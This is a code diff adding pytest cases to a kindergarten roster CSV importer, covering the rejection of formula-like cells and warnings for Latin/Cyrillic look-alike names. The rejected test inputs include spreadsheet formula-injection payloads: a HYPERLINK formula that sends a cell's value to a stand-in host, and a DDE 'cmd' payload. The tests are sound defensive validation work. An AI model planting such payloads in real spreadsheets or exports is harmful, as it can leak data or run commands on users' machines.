@@ -11,7 +11,7 @@ import pytest
 
 from kgate.cli import main
 from register.errors import RosterImportError
-from register.roster_csv import parse_csv
+from register.roster_csv import fold, parse_csv, read_roster
 from register.store import Store, open_store
 from register.store.roster import import_roster, reissue_badge, roster_document, roster_versions
 from terminal.badge import new_serial
@@ -101,6 +101,21 @@ def test_versions_are_monotonic_and_unchanged_import_is_a_noop(store: Store) -> 
         (b"kind,id,name,group\nchild,c1,A,G\nchild,c1,B,G\n", "line 3: child id 'c1' already on line 2"),
         (b"kind,id,name,group\nchild,c1,A,G,extra\n", "line 2: 5 fields"),
         (b"kind,id,name,group\n", "no children"),
+        (
+            'kind,id,name,group\nchild,c1,A,G\nchild,c2,"=HYPERLINK(""http://x""&B2,""открыть"")",G\n'.encode(),
+            "line 3, column 3 (name): must not begin with = + - @ or a tab",
+        ),
+        (
+            b"kind,id,name,group\nchild,c1,A,G\nchild,c2,+cmd|' /C calc'!A0,G\n",
+            "line 3, column 3 (name): must",
+        ),
+        (b"kind,id,group,name\nchild,c1,G,@SUM(1+1)\n", "line 2, column 4 (name): must not begin"),
+        (b"kind,id,name,group\nchild,c1,-2+3,G\n", "line 2, column 3 (name): must not begin"),
+        (b"kind,id,name,group\nchild,c1,\t=1+1,G\n", "line 2, column 3 (name): must not begin"),
+        (b"kind,id,name,group\nchild,c1,\tAli,G\n", "line 2, column 3 (name): must not begin"),
+        (b"kind,id,name,group\nchild,c1,  =1+1,G\n", "line 2, column 3 (name): must not begin"),
+        (b"kind,id,name,group\nchild,c1,Ali,=1+1\n", "line 2, column 4 (group): must not begin"),
+        (b"kind,id,name,group,guardian_of\nchild,c1,A,G,\nguardian,g1,@B,,c1\n", "line 3, column 3 (name)"),
     ],
 )
 def test_csv_errors_name_line_and_column_and_change_nothing(
@@ -141,3 +156,36 @@ def test_cli_import_show_reissue(tmp_path: Path, capsys: pytest.CaptureFixture[s
     doc = json.loads(capsys.readouterr().out)
     assert doc["version"] == 2 and any(b["serial"] == KEPT and b["revoked"] for b in doc["badges"])
     assert main(["register", "badge", "reissue", "nobody", "--kindergarten", "K1", "--db", db]) == 2
+
+
+def test_lookalike_names_are_imported_with_a_warning(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    latin_a = "A"  # U+0041 where the other names have Cyrillic U+0410
+    csv = (
+        "kind,id,group,name,guardian_of\n"
+        "child,c-001,Күншуақ,Анна Иванова,\n"
+        f"child,c-002,Күншуақ,{latin_a}нна Иванова,\n"  # mixed scripts, and the same as line 2 folded
+        "child,c-003,Күншуақ,\u0410нна Ivanova,\n"  # two scripts, no word mixed, not the same folded
+        "child,c-004,Күншуақ,Анна Иванова,\n"  # the very same name: two children may share one
+        "child,c-005,Күншуақ,Әлихан Нұрланұлы,\n"
+        "child,c-006,Күншуақ,Мария-Анна O'Brien,\n"
+        "guardian,g-01,,Анна Иванова,c-001\n"  # a guardian is not compared with the children
+    )
+    people, warnings = read_roster(csv.encode())
+    assert len(people) == 7
+    assert warnings == [
+        "line 3, column 4 (name): 'Aнна Иванова' mixes Latin and Cyrillic letters in one word "
+        "(a look-alike?)",
+        "line 3, column 4 (name): 'Aнна Иванова' looks the same as 'Анна Иванова' on line 2 "
+        "(they differ only in look-alike letters)",
+    ]
+    assert fold("Aнна Ivanova") != fold("Анна Иванова")  # Latin "Iv" is no look-alike of Cyrillic "Ив"
+    assert fold("Мария") == fold("Mapия") and fold("ΚΟΡΑ") == fold("КОРА") == "KOPA"
+    path = tmp_path / "roster.csv"
+    path.write_text(csv, encoding="utf-8")
+    db = str(tmp_path / "r.db")
+    assert main(["register", "roster", "import", "--kindergarten", "K1", str(path), "--db", db]) == 0
+    out = capsys.readouterr()
+    assert "roster version 1 (new version): 6 children, 1 guardians" in out.out
+    assert out.err.splitlines() == [f"kgate: warning: {w}" for w in warnings]
